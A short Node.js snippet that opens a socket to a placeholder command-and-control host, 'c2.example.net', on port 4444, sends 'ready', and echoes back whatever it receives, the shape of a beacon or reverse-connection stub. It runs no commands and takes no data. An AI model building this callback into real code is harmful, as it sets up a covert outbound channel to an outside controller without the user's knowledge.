const net = require('net');
const sock = new net.Socket();
sock.connect(4444, 'c2.example.net', () => { sock.write('ready'); });
sock.on('data', (d) => { sock.write(String(d)); });
